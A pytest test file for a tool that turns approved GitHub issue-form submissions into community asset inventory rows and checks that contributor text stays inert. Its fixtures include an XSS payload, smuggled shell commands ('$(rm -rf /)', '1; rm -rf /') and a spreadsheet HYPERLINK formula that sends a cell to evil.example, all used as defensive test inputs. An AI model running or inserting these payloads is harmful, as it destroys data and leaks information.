"""From an issue to one inventory row: hostile bodies, byte-for-byte write-back, inert output."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from assetmap.cli import main
from assetmap.config import load_settings
from assetmap.contribute import inert
from assetmap.contribute.apply import (
    CHECKED,
    COMMENT,
    DONE,
    PULL_REQUEST,
    SKIP,
    apply_issue,
    check_issue,
    issue_from_event,
)
from assetmap.contribute.forms import forms_for
from assetmap.contribute.issue_body import language_codes, parse
from assetmap.contribute.review import review_json, review_markdown
from assetmap.inventory.load import load
from assetmap.inventory.problems import UsageError
from assetmap.inventory.read import read_table

from .support.issues import CHANGE_REPORTS, FORMULA, ISSUES, issue_event
from .support.project import FIXTURES, INVENTORY, ROOT, TODAY

# What reading each body gives: the problems (column, code), or none.
PARSED = {
    "bad-control-characters.md": [("name", "bad-characters")],
    "bad-direction-override-in-website.md": [("website", "bad-characters")],
    "bad-invisible-characters-in-name.md": [("name", "bad-characters")],
    "bad-id-too-long.md": [("id", "too-long")],
    "bad-internal-notes-heading.md": [(None, "unknown-heading")],
    "bad-missing-required.md": [("kind", "missing-value"), ("description", "missing-value")],
    "bad-name-on-two-lines.md": [("name", "not-one-line")],
    "bad-not-an-option.md": [("category", "not-an-option")],
    "bad-oversized-description.md": [("description", "too-long")],
    "bad-oversized-name.md": [("name", "too-long")],
    "bad-repeated-heading.md": [("phone", "repeated-heading")],
    "bad-unknown-heading.md": [(None, "unknown-heading")],
    "bad-unknown-language.md": [("languages", "unknown-language")],
    "bad-opening-hours-in-words.md": [("opening_hours", "bad-opening-hours")],
}
# Bodies that read fine but that the inventory checks reject, with the problem's code.
REJECTED = {
    "bad-id-taken.md": "id-taken",
    "bad-invalid-phone.md": "bad-phone",
    "bad-change-unknown-asset.md": "unknown-asset",
}
HOSTILE_TEXT = {  # the answer kept exactly, as inert text
    "inert-html.md": ("description", '<script>alert("hi")</script><img src=x onerror='),
    "inert-markdown.md": ("name", "**Free** [money](https://evil.example) @riverbend-health"),
    "inert-shell.md": ("name", "Garden $(rm -rf /) `reboot`; echo pwned"),
    "inert-formula.md": ("name", '=HYPERLINK("https://evil.example/?x="&A2,"Riverbend")'),
}


def _form_for(name: str, settings):
    propose, change = forms_for(INVENTORY, settings)
    return change if name.removesuffix(".md") in CHANGE_REPORTS else propose


def _parse(name: str, settings):
    body = (ISSUES / name).read_text(encoding="utf-8")
    return parse(body, _form_for(name, settings), settings.language_codes)


@pytest.fixture()
def data(tmp_path):
    folder = tmp_path / "data"
    folder.mkdir()
    for name in ("categories.yml", "neighbourhoods.yml", "good.csv"):
        shutil.copy(INVENTORY / name, folder / name)
    return folder


def _rows(path) -> dict[str, str]:
    """Each row's exact text, by id."""
    table = read_table(path)
    return {r.cells["id"]: table.text[r.span[0]:r.span[1]] if r.span else repr(r.cells)
            for r in table.records}


def _outside_fences(markdown: str) -> str:
    """The Markdown with every fenced block removed: what GitHub would interpret."""
    return re.sub(r"^(`{3,})text\n.*?\n\1$", "", markdown, flags=re.S | re.M)


# --- reading bodies -------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(PARSED))
def test_broken_and_hostile_bodies_are_rejected_clearly(name, settings):
    submission = _parse(name, settings)
    assert [(p.column, p.code) for p in submission.problems] == PARSED[name]
    assert all(p.message for p in submission.problems)


def test_every_fixture_is_in_a_table():
    named = set(PARSED) | set(REJECTED) | set(HOSTILE_TEXT)
    named |= {f"{n}.md" for n in CHANGE_REPORTS} | {"good-proposal.md",
                                                    "good-proposal-with-hours.md",
                                                    "good-earlier-category-label.md",
                                                    "drop-contact-without-consent.md"}
    assert {p.name for p in ISSUES.glob("*.md")} == named


@pytest.mark.parametrize("name", sorted(set(REJECTED) | set(HOSTILE_TEXT) | {
    "good-proposal.md", "good-change.md", "good-confirm.md", "good-closure.md"}))
def test_only_the_forms_questions_become_answers(name, settings):
    submission = _parse(name, settings)
    assert submission.problems == []
    form = _form_for(name, settings)
    assert set(submission.answers) <= {q.id for q in form.questions}
    assert "internal_notes" not in submission.answers


def test_the_good_proposal_becomes_ids_and_codes(settings):
    answers = _parse("good-proposal.md", settings).answers
    assert answers["category"] == "nature; belonging"
    assert answers["neighbourhood"] == "old-mill"
    assert answers["languages"] == "fr; en"
    assert answers["accessibility"] == "wheelchair; parking"
    assert answers["contact_name"] == "Léa Tremblay" and answers["contact_consent"] == "yes"
    assert "who_for" not in answers  # _No response_ is empty


def test_opening_hours_in_the_short_form_become_the_column(settings):
    submission = _parse("good-proposal-with-hours.md", settings)
    assert submission.problems == []
    assert submission.answers["opening_hours"] == "Tu,Sa 09:00-12:00; Jun-Aug: Fr 22:00-02:00"
    assert submission.answers["hours"].startswith("Tuesdays and Saturdays")


@pytest.mark.parametrize("name", sorted(HOSTILE_TEXT))
def test_html_markdown_and_shell_text_is_kept_as_inert_text(name, settings):
    column, start = HOSTILE_TEXT[name]
    assert _parse(name, settings).answers[column].startswith(start)


def test_a_contact_name_without_consent_is_not_kept(settings):
    submission = _parse("drop-contact-without-consent.md", settings)
    assert "contact_name" not in submission.answers
    assert "not kept" in submission.notes[0]


def test_an_answer_cannot_add_a_question_that_appears_later(settings):
    body = (ISSUES / "good-proposal.md").read_text(encoding="utf-8")
    hidden = body.replace("_No response_", "x\n\n### Website\n\nhttps://evil.example", 1)
    problems = parse(hidden, _form_for("good-proposal.md", settings)).problems
    assert [(p.column, p.code) for p in problems] == [("website", "repeated-heading")]


def test_a_huge_body_is_refused_before_reading(settings):
    problems = parse("### Name\n\n" + "x" * 70_000, _form_for("x", settings)).problems
    assert [p.code for p in problems] == ["too-long"]


@pytest.mark.parametrize("text, codes, unknown", [
    ("English, French and Arabic", "en; fr; ar", []),
    ("français; anglais", "fr; en", []),
    ("zh-Hans, ase", "zh-Hans; ase", []),
    ("Elvish", "", ["Elvish"]),
])
def test_languages_in_words_become_codes(text, codes, unknown):
    assert language_codes(text, ("en", "fr", "ar")) == (codes, unknown)


# --- quoting --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["plain", "a ``` b", "````\nclose?\n````", "`", "x" * 10])
def test_a_block_cannot_be_closed_by_its_text(text):
    quoted = inert.block(text)
    fence = quoted.split("text\n", 1)[0]
    assert quoted == f"{fence}text\n{text}\n{fence}"
    assert all(len(run) < len(fence) for run in re.findall("`+", text))


def test_a_span_is_one_line_and_longer_than_its_backticks():
    assert inert.span("a `b`\nc") == "``a `b` c``"
    assert inert.span("`x") == "`` `x ``"
    assert inert.escape("[x](y) @z #1") == r"\[x\]\(y\) \@z \#1"


# --- from an approved issue to one row ----------------------------------------------------


def test_a_new_asset_adds_one_row_and_keeps_every_other_byte(data, settings):
    before = _rows(data / "good.csv")
    outcome = apply_issue(issue_event("good-proposal.md"), data, settings, today=TODAY)
    assert outcome.result == PULL_REQUEST, outcome.comment
    after = _rows(data / "good.csv")
    new_id = "jardin-communautaire-du-vieux-moulin"
    assert set(after) == set(before) | {new_id}
    assert {k: after[k] for k in before} == before
    assert read_table(data / "good.csv").records[-1].cells["last_verified"] == TODAY.isoformat()
    assert not any(p.is_error for p in load(data, settings, today=TODAY).problems)
    assert outcome.branch == "assetmap/issue-42"
    assert outcome.title == f"Add asset {new_id} (#42)"
    assert "Closes #42" in outcome.body


@pytest.mark.parametrize("name, changed, expected", [
    ("good-change.md", "cafe-rencontre", {"accepting": "yes", "phone": "613-555-0199",
                                          "last_verified": TODAY.isoformat()}),
    ("good-confirm.md", "walking-group", {"last_verified": TODAY.isoformat()}),
])
def test_a_change_report_changes_one_row(data, settings, name, changed, expected):
    before_rows = _rows(data / "good.csv")
    before = {r.cells["id"]: r.cells for r in read_table(data / "good.csv").records}
    outcome = apply_issue(issue_event(name), data, settings, today=TODAY)
    assert outcome.result == PULL_REQUEST, outcome.comment
    after_rows = _rows(data / "good.csv")
    assert {k: v for k, v in after_rows.items() if k != changed} == \
        {k: v for k, v in before_rows.items() if k != changed}
    cells = next(r.cells for r in read_table(data / "good.csv").records
                 if r.cells["id"] == changed)
    assert {k: v for k, v in cells.items() if v != before[changed][k]} == expected


def test_a_closure_removes_one_row(data, settings):
    before = _rows(data / "good.csv")
    outcome = apply_issue(issue_event("good-closure.md"), data, settings, today=TODAY)
    assert outcome.result == PULL_REQUEST
    assert outcome.title == "Remove asset cafe-rencontre (#42)"
    assert _rows(data / "good.csv") == {"walking-group": before["walking-group"]}


def test_a_yaml_inventory_keeps_every_other_item(tmp_path, settings):
    folder = tmp_path / "data"
    folder.mkdir()
    for name in ("categories.yml", "neighbourhoods.yml", "good.yml"):
        shutil.copy(INVENTORY / name, folder / name)
    original = (folder / "good.yml").read_text(encoding="utf-8")
    outcome = apply_issue(issue_event("good-closure.md"), folder, settings, today=TODAY)
    assert outcome.result == PULL_REQUEST, outcome.comment
    assert (folder / "good.yml").read_text(encoding="utf-8") == \
        original[:original.index("- id: cafe-rencontre")]


@pytest.mark.parametrize("name", sorted(set(REJECTED) | set(PARSED)))
def test_problems_give_a_comment_and_change_no_file(data, settings, name):
    original = (data / "good.csv").read_bytes()
    outcome = apply_issue(issue_event(name), data, settings, today=TODAY)
    assert outcome.result == COMMENT
    assert (data / "good.csv").read_bytes() == original
    assert outcome.comment.startswith("Thank you!")
    assert outcome.body == "" and outcome.branch == ""
    codes = [p.code for p in outcome.problems]
    assert codes == [REJECTED[name]] if name in REJECTED else [c for _, c in PARSED[name]]
    shown = _outside_fences(outcome.comment)
    assert not [p.value for p in outcome.problems if p.value and p.value in shown]


def test_the_comment_lists_problems_by_question(data, settings):
    outcome = apply_issue(issue_event("bad-invalid-phone.md"), data, settings, today=TODAY)
    assert "Phone number: '613-555-01' is not a valid phone number" in outcome.comment


def test_a_column_the_file_lacks_is_a_problem_for_a_steward(data, settings):
    event = issue_event("good-proposal.md")
    event["issue"]["body"] = event["issue"]["body"].replace(
        "### When is it on?\n\n_No response_", "### When is it on?\n\nTuesdays 10 am")
    outcome = apply_issue(event, data, settings, today=TODAY)
    assert outcome.result == COMMENT
    assert "has no 'hours' column" in outcome.comment


@pytest.mark.parametrize("name", sorted(HOSTILE_TEXT) + ["good-change.md"])
def test_contributor_text_reaches_github_only_inside_code_blocks(data, settings, name):
    outcome = apply_issue(issue_event(name), data, settings, today=TODAY)
    assert outcome.result == PULL_REQUEST, outcome.comment
    shown = _outside_fences(outcome.body)
    for word in ("evil.example", "@riverbend", "<script", "rm -rf", "waiting list"):
        assert word not in shown
    assert "evil.example" in outcome.body or "waiting list" in outcome.body or \
        "rm -rf" in outcome.body
    assert "$(" not in outcome.title and "`" not in outcome.title


def test_only_an_open_issue_just_labelled_approved_is_applied(data, settings):
    original = (data / "good.csv").read_bytes()
    assert apply_issue(issue_event("good-proposal.md", label="proposal"), data,
                       settings).result == SKIP
    closed = issue_event("good-proposal.md")
    closed["issue"]["state"] = "closed"
    assert apply_issue(closed, data, settings).result == SKIP
    not_a_form = issue_event("good-proposal.md")
    not_a_form["issue"]["labels"] = [{"name": "approved"}]
    not_a_form["issue"]["body"] = "### Hello\n\nPlease add our choir."
    outcome = apply_issue(not_a_form, data, settings)
    assert outcome.result == COMMENT and "proposal" in outcome.comment
    assert (data / "good.csv").read_bytes() == original


def test_an_issue_that_lost_its_form_label_is_known_by_its_questions(data, settings):
    """Issue forms add their label only when it exists: until the check workflow has made
    it, an issue made with a form has none. Its headings still say which form it is."""
    for name, label in (("good-proposal.md", "proposal"), ("good-change.md", "change-report")):
        event = issue_event(name)
        event["issue"]["labels"] = [{"name": "approved"}]
        assert apply_issue(event, data, settings, today=TODAY).result == PULL_REQUEST
        event["action"], event["label"] = "opened", None
        assert check_issue(event, data, settings, today=TODAY).label == label


@pytest.mark.parametrize("event", [{}, {"issue": {"number": "1; rm -rf /"}}, [],
                                   {"pull_request": {"number": 3}}])
def test_an_event_that_is_not_about_an_issue_is_a_usage_problem(event):
    with pytest.raises(UsageError):
        issue_from_event(event)


def test_the_command_writes_outputs_for_the_workflow(tmp_path, data):
    event_file = tmp_path / "event.json"
    event_file.write_text(json.dumps(issue_event("good-proposal.md")), encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["apply-issue", str(event_file), "--data", str(data),
                                       "--out", str(out), "--config", str(ROOT / "mkdocs.yml")])
    assert result.exit_code == 0, result.output
    assert (out / "result").read_text() == PULL_REQUEST
    assert (out / "branch").read_text() == "assetmap/issue-42"
    assert sorted(p.name for p in out.iterdir()) == ["body.md", "branch", "commit.txt",
                                                     "result", "title"]
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(issue_event("bad-repeated-heading.md")), encoding="utf-8")
    result = CliRunner().invoke(main, ["apply-issue", str(bad), "--data", str(data), "--out",
                                       str(out), "--config", str(ROOT / "mkdocs.yml")])
    assert result.exit_code == 0
    assert sorted(p.name for p in out.iterdir()) == ["comment.md", "result"]


def test_the_workflow_step_on_a_copy_of_the_sample_changes_only_one_row(tmp_path):
    """The fixture event payload, applied as the workflow does (`assetmap apply-issue`) to a
    copy of the real data/: one new row at the end, every other byte of every file intact."""
    sample = tmp_path / "data"
    shutil.copytree(ROOT / "data", sample)
    before = {p.relative_to(sample): p.read_bytes() for p in sample.rglob("*") if p.is_file()}
    # The fixture body answers the fixture taxonomy's form; answer the sample's form instead.
    propose, _ = forms_for(sample, load_settings(ROOT / "mkdocs.yml"))
    labels = dict(next(q for q in propose.questions if q.id == "category").options)
    event = issue_event("good-proposal.md")
    event["issue"]["body"] = event["issue"]["body"].replace(
        "Nature — parks, trails and gardens (nature), Belonging — groups where people meet "
        "(belonging)", f"{labels['nature']}, {labels['belonging']}")
    event_file = tmp_path / "event.json"
    event_file.write_text(json.dumps(event), encoding="utf-8")
    result = CliRunner().invoke(main, ["apply-issue", str(event_file), "--data", str(sample),
                                       "--out", str(tmp_path / "out"),
                                       "--config", str(ROOT / "mkdocs.yml")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "out" / "result").read_text() == PULL_REQUEST
    after = {p.relative_to(sample): p.read_bytes() for p in sample.rglob("*") if p.is_file()}
    changed = [name for name in before if before[name] != after[name]]
    assert changed == [Path("assets.csv")] and after.keys() == before.keys()
    old = before[Path("assets.csv")]
    table = read_table(sample / "assets.csv")
    place = next(i for i, r in enumerate(table.records)
                 if r.cells["id"] == "jardin-communautaire-du-vieux-moulin")
    start, end = table.records[place].span
    assert (table.text[:start] + table.text[end:]).encode("utf-8") == old  # one row inserted
    # beside the greatest id before its own
    assert table.records[place - 1].cells["id"] == "islamic-centre-friday-lunch"
    rows = list(csv.reader(io.StringIO(table.text[start:end])))
    assert len(rows) == 1 and rows[0][1] == "Jardin communautaire du Vieux-Moulin"
    assert load(sample, load_settings(ROOT / "mkdocs.yml"), today=TODAY).has_errors is False


def test_an_unreadable_event_file_is_a_usage_problem(tmp_path, data):
    (tmp_path / "event.json").write_text("{not json", encoding="utf-8")
    result = CliRunner().invoke(main, ["apply-issue", str(tmp_path / "event.json"), "--data",
                                       str(data)])
    assert result.exit_code == 2 and "cannot be read" in result.output


# --- the review cycle -----------------------------------------------------------------------


def test_review_lists_overdue_assets_by_neighbourhood(data, settings):
    (data / "good.csv").write_text((data / "good.csv").read_text(encoding="utf-8").replace(
        "2026-09-15", "2024-01-10"), encoding="utf-8")
    inventory = load(data, settings, today=TODAY).inventory
    text = review_markdown(inventory, today=TODAY)
    assert "## Old Mill" in text and "## Riverside" not in text
    assert "- [ ] `Café-rencontre des aînés` (`cafe-rencontre`): " in text
    assert "last checked 2024-01-10, 34 months ago" in text
    assert "template=report-change.yml" in text and "asset_id=cafe-rencontre" in text
    due = json.loads(review_json(inventory, today=TODAY))
    assert [(d["id"], d["months"]) for d in due] == [("cafe-rencontre", 34)]


def test_review_says_when_nothing_is_due(data, settings):
    inventory = load(data, settings, today=TODAY).inventory
    assert "Nothing is due" in review_markdown(inventory, today=TODAY)
    assert json.loads(review_json(inventory, today=TODAY)) == []


def test_review_command_writes_a_file(tmp_path, data):
    out = tmp_path / "review.md"
    result = CliRunner().invoke(main, ["review", "--data", str(data), "--output", str(out),
                                       "--config", str(ROOT / "mkdocs.yml")])
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8").startswith("# Assets due for review")


# --- hardening: what lands in a steward's file ---------------------------------------------

def test_a_formula_answer_lands_as_text_that_no_spreadsheet_runs(data, settings):
    outcome = apply_issue(issue_event("inert-formula.md"), data, settings, today=TODAY)
    assert outcome.result == PULL_REQUEST, outcome.comment
    table = read_table(data / "good.csv")
    record = next(r for r in table.records if r.cells["name"] == FORMULA)
    assert "'" + FORMULA in record.raw  # in the file: the apostrophe that keeps it text
    problems = load(data, settings, today=TODAY).problems
    assert [p for p in problems if p.is_error or p.code == "formula-text"] == []


def test_the_earlier_wording_of_a_choice_is_understood(settings):
    answers = _parse("good-earlier-category-label.md", settings).answers
    assert answers["category"] == "nature; belonging"


def test_a_change_report_shows_each_cell_old_and_new(data, settings):
    outcome = apply_issue(issue_event("good-change.md"), data, settings, today=TODAY)
    assert outcome.result == PULL_REQUEST
    block = outcome.body.split("```text\n", 1)[1].split("\n```", 1)[0]
    assert "accepting: waitlist → yes" in block.split("\n")
    assert "phone: 613-555-0102 ext. 4 → 613-555-0199" in block.split("\n")
    assert f"last_verified: 2026-09-15 → {TODAY.isoformat()}" in block.split("\n")


@pytest.mark.parametrize("name", ["good-proposal.md", "good-change.md", "good-confirm.md",
                                  "good-closure.md"])
def test_applying_the_same_issue_again_changes_nothing_and_says_so(data, settings, name):
    """Once the first pull request is merged, a second "approved" is not a failed job: the
    map already says it, and a comment says so."""
    assert apply_issue(issue_event(name), data, settings, today=TODAY).result == PULL_REQUEST
    merged = (data / "good.csv").read_bytes()
    outcome = apply_issue(issue_event(name), data, settings, today=TODAY)
    assert outcome.result == DONE, outcome.comment
    assert outcome.comment.startswith("Thank you!") and "nothing to change" in outcome.comment
    assert (data / "good.csv").read_bytes() == merged


def test_two_proposals_of_the_same_name_get_two_ids(data, settings, tmp_path):
    """The first proposal's pull request is still open: its data folder is in `pending`,
    so the second one's id gets a suffix instead of colliding with it."""
    first = tmp_path / "pending" / "41"
    shutil.copytree(data, first)
    assert apply_issue(issue_event("good-proposal.md"), first, settings,
                       today=TODAY).result == PULL_REQUEST
    outcome = apply_issue(issue_event("good-proposal.md"), data, settings, today=TODAY,
                          pending=tmp_path / "pending")
    assert outcome.result == PULL_REQUEST
    ids = [r.cells["id"] for r in read_table(data / "good.csv").records]
    assert "jardin-communautaire-du-vieux-moulin-2" in ids
    assert "jardin-communautaire-du-vieux-moulin" not in ids


def test_two_approved_proposals_merge_without_a_conflict(data, settings, tmp_path):
    """Each new row goes beside its neighbours by id, not at the end: two pull requests made
    from the same main branch merge cleanly one after the other."""
    import subprocess

    base = tmp_path / "base.csv"
    shutil.copy(data / "good.csv", base)
    copies = []
    # Between cafe-rencontre and walking-group, and after walking-group: two different places
    for number, name in ((1, "Dance for everyone"), (2, "Zumba in the park")):
        copy = tmp_path / f"pr{number}"
        shutil.copytree(data, copy)
        event = issue_event("good-proposal.md")
        event["issue"]["number"] = number
        event["issue"]["body"] = event["issue"]["body"].replace(
            "Jardin communautaire du Vieux-Moulin", name)
        assert apply_issue(event, copy, settings, today=TODAY).result == PULL_REQUEST
        copies.append(copy / "good.csv")
    merged = subprocess.run(["git", "merge-file", "-p", str(copies[0]), str(base),
                             str(copies[1])], capture_output=True)
    assert merged.returncode == 0, merged.stdout.decode()
    (data / "good.csv").write_bytes(merged.stdout)
    ids = [r.cells["id"] for r in read_table(data / "good.csv").records]
    assert {"dance-for-everyone", "zumba-in-the-park"} <= set(ids)
    assert not load(data, settings, today=TODAY).has_errors


def test_text_the_file_cannot_hold_is_a_comment_for_contributor_and_steward(tmp_path,
                                                                           settings):
    folder = tmp_path / "data"
    folder.mkdir()
    for name in ("categories.yml", "neighbourhoods.yml", "good-windows-1252-semicolon.csv"):
        shutil.copy(INVENTORY / name, folder / name)
    original = (folder / "good-windows-1252-semicolon.csv").read_bytes()
    event = issue_event("good-proposal.md")
    event["issue"]["body"] = event["issue"]["body"].replace(
        "No experience needed", "لا حاجة إلى خبرة 🌱")
    outcome = apply_issue(event, folder, settings, today=TODAY)
    assert outcome.result == COMMENT
    assert [(p.code, p.column, Path(p.file)) for p in outcome.problems] == [
        ("cannot-encode", "description", folder / "good-windows-1252-semicolon.csv")]
    assert "CSV UTF-8" in outcome.comment
    assert (folder / "good-windows-1252-semicolon.csv").read_bytes() == original


# --- feedback before approval ---------------------------------------------------------------


def _opened(name: str) -> dict:
    event = issue_event(name)
    event["action"], event["label"] = "opened", None
    event["issue"]["labels"] = [label for label in event["issue"]["labels"]
                                if label["name"] != "approved"]
    return event


def test_an_opened_issue_hears_back_at_once_and_nothing_is_written(data, settings):
    original = (data / "good.csv").read_bytes()
    good = check_issue(_opened("good-proposal.md"), data, settings, today=TODAY)
    assert good.result == CHECKED and "pass every check" in good.comment
    bad = check_issue(_opened("bad-invalid-phone.md"), data, settings, today=TODAY)
    assert bad.result == COMMENT and "not a valid phone number" in bad.comment
    assert "edited" in bad.comment  # it runs again when the issue is edited
    for outcome in (good, bad):
        assert outcome.comment.startswith("<!-- assetmap:issue-check -->")
        assert outcome.branch == "" and outcome.label == ""
    assert (data / "good.csv").read_bytes() == original


def test_the_check_skips_issues_that_are_not_made_with_a_form(data, settings):
    event = _opened("good-proposal.md")
    event["issue"]["labels"] = []
    event["issue"]["body"] = "The map is great, thank you!"
    assert check_issue(event, data, settings, today=TODAY).result == SKIP


def test_the_check_command_writes_the_comment_and_the_missing_label(tmp_path, data):
    event = _opened("bad-invalid-phone.md")
    event["issue"]["labels"] = []
    event_file = tmp_path / "event.json"
    event_file.write_text(json.dumps(event), encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["check-issue", str(event_file), "--data", str(data),
                                       "--out", str(out), "--config", str(ROOT / "mkdocs.yml")])
    assert result.exit_code == 0, result.output
    assert (out / "result").read_text() == COMMENT
    assert (out / "label").read_text() == "proposal"
    assert "not a valid phone number" in (out / "comment.md").read_text(encoding="utf-8")


# --- checks before merge ----------------------------------------------------------------------


@pytest.fixture()
def project(tmp_path):
    """A copy of the project whose inventory is the small fixture site's, PDFs off (fast)."""
    from assetmap.build.site import copy_project

    config = copy_project(tmp_path / "project", FIXTURES / "site")
    config.write_text(config.read_text(encoding="utf-8").replace(
        "pdf_sheets: true", "pdf_sheets: false"), encoding="utf-8")
    return config


def test_the_pull_request_says_the_site_was_built_with_the_change(project, settings):
    data = project.parent / "data"
    outcome = apply_issue(issue_event("good-proposal.md"), data,
                          settings, today=TODAY, build_config=project)
    assert outcome.result == PULL_REQUEST, outcome.comment
    assert "built the whole site with it: the build passed" in outcome.body
    assert "`assetmap check` on the changed inventory: 0 error(s)" in outcome.body


def test_a_change_the_site_cannot_be_built_with_is_not_proposed(project, settings):
    """Here the site itself is broken (a page its menu lists is gone): no pull request, the
    inventory is left as it was, and the steward hears why."""
    data = project.parent / "data"
    for page in (project.parent / "docs").glob("about*.md"):
        page.unlink()
    original = {p.name: p.read_bytes() for p in data.iterdir() if p.is_file()}
    outcome = apply_issue(issue_event("good-proposal.md"), data, settings, today=TODAY,
                          build_config=project)
    assert outcome.result == COMMENT
    assert "could not be built" in outcome.comment and "about.md" in outcome.comment
    assert {p.name: p.read_bytes() for p in data.iterdir() if p.is_file()} == original


def test_ages_in_words_and_ticked_audiences_become_the_rows_ages_and_ids(tmp_path):
    sample = tmp_path / "data"
    shutil.copytree(ROOT / "data", sample)
    settings = load_settings(ROOT / "mkdocs.yml")
    propose, _ = forms_for(sample, settings)
    labels = dict(next(q for q in propose.questions if q.id == "category").options)
    audiences = dict(next(q for q in propose.questions if q.id == "audience").options)
    event = issue_event("good-proposal.md")
    event["issue"]["body"] = event["issue"]["body"].replace(
        "Nature — parks, trails and gardens (nature), Belonging — groups where people meet "
        "(belonging)", f"{labels['nature']}, {labels['belonging']}").replace(
        "### Who is it for?\n\n_No response_\n", "### Who is it for?\n\n_No response_\n\n"
        "### What ages is it for?\n\n55+\n\n### Is it meant for particular people?\n\n"
        f"- [X] {audiences['seniors']}\n- [ ] {audiences['youth']}\n"
        f"- [x] {audiences['caregivers']}\n")
    outcome = apply_issue(event, sample, settings, today=TODAY)
    assert outcome.result == PULL_REQUEST, outcome.comment
    garden = next(a for a in load(sample, settings, today=TODAY).inventory.assets
                  if a.id == "jardin-communautaire-du-vieux-moulin")
    assert (garden.ages, garden.audience) == ("55+", ("seniors", "caregivers"))
